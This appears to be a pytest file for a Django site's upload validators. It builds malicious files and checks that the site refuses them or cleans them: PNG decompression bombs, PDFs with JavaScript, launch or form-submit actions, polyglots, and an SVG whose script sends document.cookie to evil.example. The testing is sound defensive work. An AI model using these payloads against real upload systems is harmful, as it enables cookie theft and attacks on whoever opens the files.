"""Uploads that cannot hurt: real malicious files, built here, refused or made harmless.

Unit tests of the validators and of the image cleaning, then the same files posted by a
superuser to the admin's add and change views, as an editor would.
"""

import datetime
import io
import os
import re
import struct
import subprocess
import zlib

import pytest
from django import forms
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation
from PIL import ExifTags, Image, ImageCms, ImageFile, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    ContentStream,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from editing import uploads
from editing.uploads import (
    SafeUploadTo,
    clean_image,
    rendition_names,
    rendition_widths,
    stored_dimensions,
    validate_image,
    validate_pdf,
)
from network.models import Organisation
from pages.models import Deliberation, Page

from .helpers import tag_attrs

MB = 1024 * 1024

# --- Files, built in the test


def image_bytes(fmt="PNG", size=(1600, 900), mode="RGB", color=(200, 40, 90), **options):
    output = io.BytesIO()
    Image.new(mode, size, color).save(output, fmt, **options)
    return output.getvalue()


def photo_with_gps():
    """A phone photo: 1600 x 900 pixels stored sideways (EXIF orientation 6), GPS and XMP."""
    image = Image.new("RGB", (1600, 900), (30, 120, 200))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (44.0, 54.0, 2.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (8.0, 12.0, 30.0)
    output = io.BytesIO()
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">Via Segreta 1, Asti</x:xmpmeta>'
    image.save(output, "JPEG", exif=exif, xmp=xmp)
    data = output.getvalue()
    # The test file really carries what must be removed.
    reopened = Image.open(io.BytesIO(data))
    assert reopened.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"Via Segreta" in data
    return data


def png_bomb(width, height):
    """A valid black-and-white PNG: a few KB on disk, width x height pixels once decoded."""

    def chunk(kind, payload):
        body = kind + payload
        return struct.pack(">I", len(payload)) + body + struct.pack(">I", zlib.crc32(body))

    row = b"\x00" + bytes((width + 7) // 8)  # filter byte, then 1 bit per pixel
    compressor = zlib.compressobj(9)
    compressed = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", compressed)
        + chunk(b"IEND", b"")
    )


def noise_png(size):
    """An image that does not compress: its file is as big as its pixels."""
    output = io.BytesIO()
    Image.frombytes("RGB", size, os.urandom(size[0] * size[1] * 3)).save(
        output, "PNG", compress_level=0
    )
    return output.getvalue()


def pdf_bytes():
    """A real PDF document, as Pillow writes it."""
    output = io.BytesIO()
    Image.new("RGB", (100, 140), "white").save(output, "PDF")
    data = output.getvalue()
    assert data.startswith(b"%PDF-") and b"%%EOF" in data[-32:]
    return data


def text_pdf(pages=1):
    """A PdfWriter holding an ordinary act: text, a link to a web page, and an open action
    that only shows the first page (a destination, not a script)."""
    writer = PdfWriter()
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    for number in range(pages):
        page = writer.add_blank_page(595, 842)
        page[NameObject("/Resources")] = _pdf_value({"/Font": {"/F1": font}})
        content = ContentStream(None, writer)
        content.set_data(b"BT /F1 14 Tf 72 760 Td (Delibera n. 231 del 10/09/2010) Tj ET")
        page.replace_contents(content)
        link = Link(rect=(72, 700, 300, 720), url="https://www.provincia.asti.it/")
        writer.add_annotation(number, link)
    first = writer.pages[0].indirect_reference
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([first, NameObject("/Fit")])
    return writer


def _pdf_value(value):
    """A PDF object from Python values: "/Name" strings are names, other strings text."""
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): _pdf_value(item) for key, item in value.items()})
    if isinstance(value, list):
        return ArrayObject(_pdf_value(item) for item in value)
    if isinstance(value, str):
        return NameObject(value) if value.startswith("/") else TextStringObject(value)
    return NumberObject(value)


def written(writer):
    output = io.BytesIO()
    writer.write(output)
    data = output.getvalue()
    PdfReader(io.BytesIO(data), strict=True)  # a well-formed PDF: what is refused is inside
    return data


def raw_pdf(*objects, trailer=b""):
    """A PDF written byte by byte: objects numbered from 1, the first one the catalog."""
    data = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(data)
    size = len(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (size, trailer)
    return data + b"startxref\n%d\n%%%%EOF\n" % xref


RAW_CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
RAW_PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
)


def with_pdf(change):
    """An ordinary act changed by change(writer), as bytes."""

    def build():
        writer = text_pdf()
        change(writer)
        return written(writer)

    return build


def _set_root(key, value):
    return lambda writer: writer.root_object.__setitem__(NameObject(key), _pdf_value(value))


def _annotate(annotation):
    return lambda writer: writer.add_annotation(0, annotation)


def _add_xfa(writer):
    template = DecodedStreamObject()
    template.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {
            NameObject("/Fields"): ArrayObject(),
            # A stream is an indirect object: pypdf's writer has no public call for it.
            NameObject("/XFA"): ArrayObject([_pdf_value("template"), writer._add_object(template)]),
        }
    )


def _encrypt(user_password, owner_password):
    # RC4: pypdf writes it without the cryptography library.
    return lambda writer: writer.encrypt(user_password, owner_password, algorithm="RC4-128")


def _link(**fields):
    return {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [72, 600, 300, 620], **fields}


# JavaScript hidden from a byte search: "#61" is "a" and "#53" is "S" in a PDF name.
OBFUSCATED_JAVASCRIPT = raw_pdf(
    b"<< /Type /Catalog /Pages 2 0 R "
    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>",
    *RAW_PAGES,
)
assert b"JavaScript" not in OBFUSCATED_JAVASCRIPT and b"/JS" not in OBFUSCATED_JAVASCRIPT

# Object 4 holds a script that nothing points at.
UNREFERENCED_JAVASCRIPT = raw_pdf(
    RAW_CATALOG, *RAW_PAGES, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
)

# AES-256 (revision 6) needs a cryptography library to be even tried: refused all the same.
AES_ENCRYPTED = raw_pdf(
    RAW_CATALOG,
    *RAW_PAGES,
    trailer=b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 256 /P -1028 "
    + b"/O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> >> /ID [<%s> <%s>]"
    % (b"11" * 48, b"22" * 48, b"33" * 32, b"44" * 32, b"55" * 16, b"66" * 16, b"66" * 16),
)

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(1)">'
    b"<script>fetch('https://evil.example/?c=' + document.cookie)</script>"
    b'<circle cx="50" cy="50" r="40" fill="red"/></svg>'
)
TEXT = b"Delibera n. 231 del 10/09/2010: testo dell'atto.\n"


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal(validator, file):
    with pytest.raises(ValidationError) as caught:
        validator(file)
    return caught.value


# --- Images: what is accepted


@pytest.mark.parametrize(
    ("fmt", "name"),
    [("JPEG", "foto.jpg"), ("PNG", "grafica.png"), ("WEBP", "immagine.webp")],
)
def test_jpeg_png_and_webp_images_are_accepted(fmt, name):
    validate_image(upload(name, image_bytes(fmt)))


def test_a_camera_jpeg_with_preview_pictures_is_accepted():
    # Pillow reads such a JPEG as "MPO", with several frames; it is no animation.
    output = io.BytesIO()
    picture = Image.new("RGB", (800, 600), "green")
    picture.save(output, "MPO", save_all=True, append_images=[picture.resize((160, 120))])
    validate_image(upload("DSC0001.JPG", output.getvalue()))
    assert clean_image(upload("DSC0001.JPG", output.getvalue())).extension == "jpg"


def test_the_pixel_limit_is_a_limit_not_a_guess():
    validate_image(upload("mappa.png", png_bomb(6000, 6000)))  # 36 million pixels


# --- Images: what is refused


def test_a_decompression_bomb_is_refused():
    data = png_bomb(20000, 20000)  # 400 million pixels
    assert len(data) < 200_000
    error = refusal(validate_image, upload("bomba.png", data))
    assert error.code == "too_many_pixels"


def test_an_image_between_the_limit_and_twice_it_is_refused_too():
    # Pillow only warns there (DecompressionBombWarning); the site refuses.
    error = refusal(validate_image, upload("grande.png", png_bomb(8000, 6000)))
    assert error.code == "too_many_pixels"


def test_the_pixel_limit_comes_from_the_settings(settings):
    settings.MAX_IMAGE_PIXELS = 1_000_000
    error = refusal(validate_image, upload("foto.png", image_bytes(size=(1200, 900))))
    assert error.code == "too_many_pixels"
    with translation.override("en"):
        assert "at most 1 million" in error.messages[0]


def test_a_pdf_renamed_jpg_is_refused():
    error = refusal(validate_image, upload("foto.jpg", pdf_bytes(), "image/jpeg"))
    assert error.code == "pdf_not_image"


@pytest.mark.parametrize("name", ["logo.svg", "logo.png"])
def test_an_svg_with_a_script_is_refused(name):
    error = refusal(validate_image, upload(name, SVG_WITH_SCRIPT, "image/svg+xml"))
    assert error.code == "svg"


@pytest.mark.parametrize("fmt", ["GIF", "BMP", "TIFF", "ICO"])
def test_other_image_formats_are_refused(fmt):
    data = image_bytes(fmt, size=(64, 64))
    Image.open(io.BytesIO(data)).load()  # a valid image of that format
    error = refusal(validate_image, upload(f"immagine.{fmt.lower()}", data))
    assert error.code == "not_image"


def test_a_damaged_image_is_refused():
    data = image_bytes("JPEG")
    error = refusal(validate_image, upload("foto.jpg", data[: len(data) // 2]))
    assert error.code == "not_image"


def test_a_damaged_image_is_refused_once_weasyprint_is_loaded(monkeypatch):
    # WeasyPrint (the pocket card) turns on Pillow's tolerance of cut-off files when
    # imported, for the whole process.
    import weasyprint.images  # noqa: F401

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    data = image_bytes("JPEG")
    error = refusal(validate_image, upload("foto.jpg", data[: len(data) // 2]))
    assert error.code == "not_image"


def test_an_animated_image_is_refused():
    frames = [Image.new("RGB", (50, 50), color) for color in ("red", "blue")]
    output = io.BytesIO()
    frames[0].save(output, "PNG", save_all=True, append_images=frames[1:])
    error = refusal(validate_image, upload("animazione.png", output.getvalue()))
    assert error.code == "animated"


def test_an_oversize_image_is_refused(settings):
    settings.MAX_IMAGE_SIZE = 50_000
    data = noise_png((200, 100))
    assert len(data) > 50_000
    error = refusal(validate_image, upload("rumore.png", data))
    assert error.code == "image_too_large"


def test_an_empty_file_is_refused():
    assert refusal(validate_image, upload("vuoto.png", b"")).code == "empty"
    assert refusal(validate_pdf, upload("vuoto.pdf", b"")).code == "empty"


def test_refusals_speak_italian_first_and_english_too():
    error = refusal(validate_image, upload("logo.svg", SVG_WITH_SCRIPT))
    with translation.override("it"):
        assert error.messages == [
            "Le immagini SVG non sono accettate, perché possono contenere programmi. "
            "Salva l'immagine come PNG, JPEG o WebP e carica quel file."
        ]
    with translation.override("en"):
        assert error.messages[0].startswith("SVG images are not accepted")
    error = refusal(validate_pdf, upload("atto.pdf", TEXT))
    with translation.override("it"):
        assert error.messages[0].startswith("Questo file non è un documento PDF")
    with translation.override("en"):
        assert error.messages[0].startswith("This file is not a PDF document")


# --- Documents


def test_a_pdf_is_accepted_whatever_its_name():
    validate_pdf(upload("atto.pdf", pdf_bytes(), "application/pdf"))
    validate_pdf(upload("ATTO.PDF", pdf_bytes()))
    validate_pdf(upload("atto-senza-estensione", pdf_bytes()))


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("delibera.pdf", TEXT, "not_pdf"),
        ("delibera.pdf", b"<html><script>alert(1)</script></html>", "not_pdf"),
        # A polyglot: something else first, a PDF after it.
        ("delibera.pdf", b"<html><script>alert(1)</script>\n" + pdf_bytes(), "not_pdf"),
        ("delibera.pdf", image_bytes("PNG"), "not_pdf"),
        ("delibera.pdf", pdf_bytes()[:-200], "damaged_pdf"),
        (
            "delibera.pdf.p7m",
            b"\x30\x80" + bytes.fromhex("06092a864886f70d010702") + b"\xa0\x80" + pdf_bytes(),
            "signed_pdf",
        ),
    ],
)
def test_what_is_not_a_whole_pdf_is_refused(name, data, code):
    assert refusal(validate_pdf, upload(name, data)).code == code


def test_an_ordinary_pdf_with_text_and_links_is_accepted():
    data = written(text_pdf(pages=3))
    reader = PdfReader(io.BytesIO(data))
    assert "Delibera n. 231" in reader.pages[0].extract_text()
    assert reader.pages[0]["/Annots"][0].get_object()["/A"]["/S"] == "/URI"
    validate_pdf(upload("delibera.pdf", data))
    validate_pdf(upload("delibera.pdf", raw_pdf(RAW_CATALOG, *RAW_PAGES)))
    # Objects that point at each other in a loop are visited once.
    loop = raw_pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Extra 4 0 R >>",
        *RAW_PAGES,
        b"[4 0 R 1 0 R 5 0 R]",
        b"[4 0 R]",
    )
    validate_pdf(upload("delibera.pdf", loop))


def _broken_xref():
    data = written(text_pdf())
    start = data.rindex(b"startxref\n") + len(b"startxref\n")
    end = data.index(b"\n", start)
    return data[:start] + str(int(data[start:end]) - 7).encode() + data[end:]


def _truncated_with_end():
    data = written(text_pdf())
    return data[: len(data) // 2] + b"\n%%EOF\n"


HOSTILE_PDFS = {
    "OpenAction JavaScript": (
        with_pdf(_set_root("/OpenAction", {"/S": "/JavaScript", "/JS": "app.alert('aperto')"})),
        "pdf_javascript",
    ),
    "Names JavaScript": (
        with_pdf(lambda writer: writer.add_open_action(JavaScript("this.print({bUI: false})"))),
        "pdf_javascript",
    ),
    "obfuscated /J#61vaScript": (lambda: OBFUSCATED_JAVASCRIPT, "pdf_javascript"),
    "JavaScript nothing points at": (lambda: UNREFERENCED_JAVASCRIPT, "pdf_javascript"),
    "Launch action": (
        with_pdf(_annotate(_link(**{"/A": {"/S": "/Launch", "/F": "cmd.exe"}}))),
        "pdf_launch",
    ),
    "OpenAction to a web address": (
        with_pdf(_set_root("/OpenAction", {"/S": "/URI", "/URI": "https://tracker.example/x"})),
        "pdf_opens_elsewhere",
    ),
    "link to a file on a network share": (
        with_pdf(_annotate(_link(**{"/A": {"/S": "/GoToR", "/F": "\\\\evil\\share\\x.pdf"}}))),
        "pdf_opens_elsewhere",
    ),
    "annotation with /AA": (
        with_pdf(
            _annotate(
                _link(
                    **{
                        "/A": {"/S": "/URI", "/URI": "https://www.provincia.asti.it/"},
                        "/AA": {"/E": {"/S": "/URI", "/URI": "https://evil.example/"}},
                    }
                )
            )
        ),
        "pdf_automatic_actions",
    ),
    "page with /AA": (
        with_pdf(
            lambda writer: writer.pages[0].__setitem__(
                NameObject("/AA"), _pdf_value({"/O": {"/S": "/Named", "/N": "/Print"}})
            )
        ),
        "pdf_automatic_actions",
    ),
    "embedded file": (
        with_pdf(lambda writer: writer.add_attachment("verbale.exe", b"MZ\x90\x00")),
        "pdf_embedded_file",
    ),
    "file attachment annotation": (
        with_pdf(
            _annotate(
                {
                    "/Type": "/Annot",
                    "/Subtype": "/FileAttachment",
                    "/Rect": [72, 600, 90, 620],
                    "/FS": {"/Type": "/Filespec", "/F": "nota.txt"},
                }
            )
        ),
        "pdf_embedded_file",
    ),
    "GoToE action": (
        with_pdf(
            _annotate(_link(**{"/A": {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "allegato"}}}))
        ),
        "pdf_embedded_file",
    ),
    "XFA form": (with_pdf(_add_xfa), "pdf_xfa"),
    "SubmitForm action": (
        with_pdf(
            _annotate(
                _link(
                    **{
                        "/A": {
                            "/S": "/SubmitForm",
                            "/F": {"/FS": "/URL", "/F": "https://evil.example/raccolta"},
                        }
                    }
                )
            )
        ),
        "pdf_sends_data",
    ),
    "ImportData action": (
        with_pdf(_annotate(_link(**{"/A": {"/S": "/ImportData", "/F": "dati.fdf"}}))),
        "pdf_sends_data",
    ),
    "RichMedia annotation": (
        with_pdf(
            _annotate({"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": [72, 400, 300, 600]})
        ),
        "pdf_multimedia",
    ),
    "encrypted with a password": (with_pdf(_encrypt("riservato", "ufficio")), "pdf_encrypted"),
    "encrypted, opens without a password": (with_pdf(_encrypt("", "ufficio")), "pdf_encrypted"),
    "encrypted with AES-256": (lambda: AES_ENCRYPTED, "pdf_encrypted"),
    "garbage after the header": (
        lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        "pdf_unreadable",
    ),
    "cut in the middle, end added": (_truncated_with_end, "pdf_unreadable"),
    "cross-reference table pointing elsewhere": (_broken_xref, "pdf_unreadable"),
    "truncated": (lambda: written(text_pdf())[:-40], "damaged_pdf"),
    "HTML/PDF polyglot": (
        lambda: b"<html><script>alert(document.domain)</script>\n" + written(text_pdf()),
        "not_pdf",
    ),
}


@pytest.mark.parametrize("case", HOSTILE_PDFS)
def test_a_pdf_with_active_content_or_malformed_is_refused(case):
    build, code = HOSTILE_PDFS[case]
    assert refusal(validate_pdf, upload("delibera.pdf", build())).code == code


def test_the_pages_and_the_objects_of_a_pdf_are_bounded(monkeypatch):
    data = written(text_pdf(pages=3))
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 3)
    validate_pdf(upload("atto.pdf", data))
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 2)
    error = refusal(validate_pdf, upload("atto.pdf", data))
    assert error.code == "pdf_too_many_pages"
    with translation.override("it"):
        assert "troppe pagine: al massimo 2." in error.messages[0]
    monkeypatch.setattr(uploads, "MAX_PDF_PAGES", 2000)
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 10)
    assert refusal(validate_pdf, upload("atto.pdf", data)).code == "pdf_too_complex"


def test_an_oversize_pdf_is_refused(settings):
    settings.MAX_DOCUMENT_SIZE = 1 * MB
    data = b"%PDF-1.4\n%" + b"0" * MB + b"\n%%EOF\n"
    assert refusal(validate_pdf, upload("atto.pdf", data)).code == "document_too_large"


# --- Stored names


def test_stored_names_are_random_ascii_and_keep_nothing_of_the_editors_file_name():
    upload_to = SafeUploadTo("acts/%Y/")
    names = {
        upload_to(None, name)
        for name in ["Delibera Giunta n.231 (firmata).PDF", "../../etc/passwd.PDF", "àtto.pdf"]
    }
    assert len(names) == 3
    for name in names:
        assert re.fullmatch(r"acts/\d{4}/[0-9a-f]{16}\.pdf", name), name
    assert re.fullmatch(r"logos/[0-9a-f]{16}", SafeUploadTo("logos/")(None, "senza estensione"))


def test_renditions_are_never_wider_than_the_image():
    assert rendition_widths(2400) == [480, 960, 1440]
    assert rendition_widths(1000) == [480, 960, 1000]
    assert rendition_widths(600) == [480, 600]
    assert rendition_widths(300) == [300]
    assert rendition_names("pages/ab12-600x400.png") == [
        ("pages/ab12-600x400-480w.webp", 480),
        ("pages/ab12-600x400-600w.webp", 600),
    ]
    assert stored_dimensions("pages/ab12-600x400.png") == (600, 400)
    # A name this module did not give: no renditions are assumed.
    assert rendition_names("pages/foto.jpg") == [] and stored_dimensions("foto.jpg") is None


# --- Cleaning


def test_cleaning_applies_the_orientation_and_drops_exif_gps_and_xmp():
    clean = clean_image(upload("IMG_0001.jpg", photo_with_gps()))
    assert clean.extension == "jpg"
    assert (clean.width, clean.height) == (900, 1600)  # turned upright
    data = clean.content.read()
    stored = Image.open(io.BytesIO(data))
    assert stored.size == (900, 1600)
    assert not stored.getexif()
    assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in stored.info and "xmp" not in stored.info
    assert b"Exif" not in data and b"Via Segreta" not in data and b"PhoneMaker" not in data


def test_cleaning_drops_png_text_and_colour_profiles_but_keeps_transparency():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Foto di Maria, casa di via Segreta")
    srgb = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = image_bytes("PNG", mode="RGBA", color=(10, 20, 30, 0), pnginfo=info, icc_profile=srgb)
    assert b"via Segreta" in data
    clean = clean_image(upload("trasparente.png", data))
    output = clean.content.read()
    stored = Image.open(io.BytesIO(output))
    assert stored.mode == "RGBA" and stored.getpixel((0, 0))[3] == 0
    assert b"via Segreta" not in output and "icc_profile" not in stored.info


def test_an_image_with_an_unusable_colour_profile_is_stored_without_it():
    lab = ImageCms.ImageCmsProfile(ImageCms.createProfile("LAB")).tobytes()
    data = image_bytes("JPEG", icc_profile=lab)
    assert Image.open(io.BytesIO(data)).info["icc_profile"] == lab
    stored = Image.open(clean_image(upload("profilo.jpg", data)).content)
    assert "icc_profile" not in stored.info and stored.size == (1600, 900)


# --- Through the admin, as an editor


def admin_url(model, view, *args):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


def _values(form):
    data = {}
    for bound in form:
        if isinstance(bound.field, forms.FileField):
            continue
        value = bound.value()
        if isinstance(bound.field, forms.BooleanField):
            if value:
                data[bound.html_name] = "on"
        elif isinstance(value, list | tuple):
            data[bound.html_name] = [str(getattr(item, "pk", item)) for item in value]
        elif value is not None:
            data[bound.html_name] = value
    return data


def form_data(client, url, **fields):
    """What the admin form at url posts when the editor changes only `fields`."""
    response = client.get(url)
    assert response.status_code == 200
    data = _values(response.context["adminform"].form)
    for inline in response.context["inline_admin_formsets"]:
        data.update(_values(inline.formset.management_form))
        for form in inline.formset.forms:
            data.update(_values(form))
    data.update(fields)
    return data


def stored_files():
    root = default_storage.location
    return sorted(
        os.path.relpath(os.path.join(folder, name), root)
        for folder, _dirs, names in os.walk(root)
        for name in names
    )


def page_fields(**fields):
    return {"title_it": "Chi siamo", "slug": "chi-siamo", "image_alt_it": "Lo sportello", **fields}


def test_a_photo_with_gps_is_stored_upright_without_it_and_with_renditions(admin_client):
    url = admin_url(Organisation, "add")
    data = form_data(
        admin_client,
        url,
        name_it="Comune di Prova",
        slug="comune-di-prova",
        kind="institution",
        logo_alt_it="Stemma del Comune di Prova",
        logo=upload("IMG_20240101_casa di Maria.JPG", photo_with_gps(), "image/jpeg"),
    )
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors

    organisation = Organisation.objects.get(slug="comune-di-prova")
    name = organisation.logo.name
    assert re.fullmatch(r"logos/[0-9a-f]{16}-900x1600\.jpg", name), name
    with default_storage.open(name) as handle:
        data = handle.read()
    stored = Image.open(io.BytesIO(data))
    assert stored.format == "JPEG" and stored.size == (900, 1600)
    assert not stored.getexif() and not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in stored.info and "xmp" not in stored.info
    assert b"Exif" not in data and b"Via Segreta" not in data

    base = name.removesuffix(".jpg")
    assert stored_files() == sorted([name, f"{base}-480w.webp", f"{base}-900w.webp"])
    for width in (480, 900):
        with default_storage.open(f"{base}-{width}w.webp") as handle:
            rendition = Image.open(io.BytesIO(handle.read()))
        assert rendition.format == "WEBP" and rendition.width == width
        assert not rendition.getexif()

    html = admin_client.get(organisation.get_absolute_url()).content.decode()
    [source] = tag_attrs(html, "source")
    assert source["type"] == "image/webp"
    assert source["srcset"] == f"/media/{base}-480w.webp 480w, /media/{base}-900w.webp 900w"
    [img] = [attrs for attrs in tag_attrs(html, "img") if attrs.get("class") == "logo"]
    assert img["src"] == f"/media/{name}"
    assert (img["width"], img["height"]) == ("900", "1600")
    assert img["alt"] == "Stemma del Comune di Prova"


MALICIOUS_IMAGES = {
    "decompression bomb": (
        "bomba.png",
        lambda: png_bomb(20000, 20000),
        "image/png",
        "troppi pixel",
    ),
    "PDF renamed .jpg": ("foto.jpg", pdf_bytes, "image/jpeg", "è un documento PDF"),
    "SVG with a script": (
        "logo.svg",
        lambda: SVG_WITH_SCRIPT,
        "image/svg+xml",
        "Le immagini SVG non sono accettate",
    ),
    "oversize image": (
        "grande.png",
        lambda: noise_png((1800, 1700)),
        "image/png",
        "Il file è troppo grande",
    ),
}


@pytest.mark.parametrize("case", MALICIOUS_IMAGES)
def test_the_admin_refuses_a_malicious_image_and_keeps_what_was_typed(admin_client, case):
    name, build, content_type, message = MALICIOUS_IMAGES[case]
    data = build()
    if case == "oversize image":
        assert len(data) > 8 * MB
    url = admin_url(Page, "add")
    post = form_data(
        admin_client,
        url,
        **page_fields(
            summary_it="Una sintesi scritta con cura.", image=upload(name, data, content_type)
        ),
    )
    response = admin_client.post(url, post)

    assert response.status_code == 200
    html = response.content.decode()
    assert message in html
    form = response.context["adminform"].form
    assert list(form.errors) == ["image"]
    assert form["title_it"].value() == "Chi siamo"
    assert form["summary_it"].value() == "Una sintesi scritta con cura."
    assert form["image_alt_it"].value() == "Lo sportello"
    assert 'value="Chi siamo"' in html
    assert not Page.objects.filter(slug="chi-siamo").exists()
    assert stored_files() == []


def test_the_admin_asks_for_the_alternative_text_of_an_image(admin_client):
    url = admin_url(Page, "add")
    post = form_data(
        admin_client, url, **page_fields(image_alt_it="", image=upload("a.png", image_bytes()))
    )
    response = admin_client.post(url, post)
    assert response.status_code == 200
    assert "testo alternativo" in response.content.decode()
    assert response.context["adminform"].form["title_it"].value() == "Chi siamo"
    assert not Page.objects.filter(slug="chi-siamo").exists()


def test_the_admin_tells_the_editor_what_is_accepted(admin_client):
    html = admin_client.get(admin_url(Page, "add")).content.decode()
    assert "JPEG, PNG o WebP, al massimo 8,0\xa0MB e 40 milioni di pixel" in html
    assert 'accept="image/jpeg,image/png,image/webp"' in html
    html = admin_client.get(admin_url(Deliberation, "add")).content.decode()
    assert "Solo PDF" in html and "20,0\xa0MB" in html
    assert 'accept="application/pdf,.pdf"' in html


def test_replacing_or_removing_an_image_deletes_the_old_files(
    admin_client, django_capture_on_commit_callbacks
):
    add = admin_url(Page, "add")
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(
            add, form_data(admin_client, add, **page_fields(image=upload("a.png", image_bytes())))
        )
    assert response.status_code == 302
    page = Page.objects.get(slug="chi-siamo")
    first = stored_files()
    assert len(first) == 4  # the original and its renditions at 480, 960 and 1440 pixels

    change = admin_url(Page, "change", page.pk)
    photo = upload("b.jpg", image_bytes("JPEG", size=(700, 500)))
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(change, form_data(admin_client, change, image=photo))
    assert response.status_code == 302
    page.refresh_from_db()
    assert page.image.name.endswith("-700x500.jpg")
    second = stored_files()
    assert len(second) == 3 and not set(first) & set(second)

    with django_capture_on_commit_callbacks(execute=True):
        post = form_data(admin_client, change, **{"image-clear": "on"})
        response = admin_client.post(change, post)
    assert response.status_code == 302
    page.refresh_from_db()
    assert not page.image
    assert stored_files() == []


def test_deleting_a_page_deletes_its_image_files(admin_client, django_capture_on_commit_callbacks):
    page = Page.objects.create(title_it="Prova", slug="prova", image_alt_it="Una prova")
    page.image.save("x.webp", upload("x.webp", image_bytes("WEBP", size=(500, 300))))
    assert len(stored_files()) == 3
    with django_capture_on_commit_callbacks(execute=True):
        page.delete()
    assert stored_files() == []


def make_act(**fields):
    return Deliberation.objects.create(
        issuing_body="giunta_provinciale",
        number="231",
        date=datetime.date(2010, 9, 10),
        title_it=ACT_FIELDS["title_it"],
        slug=ACT_FIELDS["slug"],
        **fields,
    )


ACT_FIELDS = {
    "issuing_body": "giunta_provinciale",
    "number": "231",
    "date": "2010-09-10",
    "title_it": "Approvazione del protocollo d'intesa per la rete antiviolenza",
    "slug": "approvazione-protocollo",
    "effect": "approves",
    "published": "on",
}


@pytest.mark.parametrize(
    ("name", "build", "message"),
    [
        ("delibera.pdf", lambda: TEXT, "Questo file non è un documento PDF"),
        (
            "delibera.pdf",
            lambda: b"%PDF-1.4\n%" + b"0" * (20 * MB) + b"\n%%EOF\n",
            "Il file è troppo grande",
        ),
    ],
    ids=["text file renamed .pdf", "oversize PDF"],
)
def test_the_admin_refuses_what_is_not_an_acceptable_pdf(admin_client, name, build, message):
    url = admin_url(Deliberation, "add")
    post = form_data(admin_client, url, **ACT_FIELDS, document=upload(name, build()))
    response = admin_client.post(url, post)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert list(response.context["adminform"].form.errors) == ["document"]
    assert response.context["adminform"].form["title_it"].value() == ACT_FIELDS["title_it"]
    assert not Deliberation.objects.exists()
    assert stored_files() == []


HOSTILE_ACT_DOCUMENTS = {
    "OpenAction JavaScript": "Il PDF contiene codice JavaScript",
    "Names JavaScript": "Il PDF contiene codice JavaScript",
    "obfuscated /J#61vaScript": "Il PDF contiene codice JavaScript",
    "Launch action": "Il PDF contiene comandi che avviano altri programmi",
    "OpenAction to a web address": "Il PDF apre da solo un indirizzo web o un altro file",
    "annotation with /AA": "Il PDF contiene azioni che partono da sole",
    "embedded file": "Il PDF contiene file allegati",
    "XFA form": "Il PDF è un modulo XFA",
    "HTML/PDF polyglot": "Questo file non è un documento PDF",
    "truncated": "Questo documento PDF è incompleto o danneggiato",
    "garbage after the header": "Questo documento PDF non si può leggere",
    "encrypted with a password": "Questo documento PDF è protetto",
}


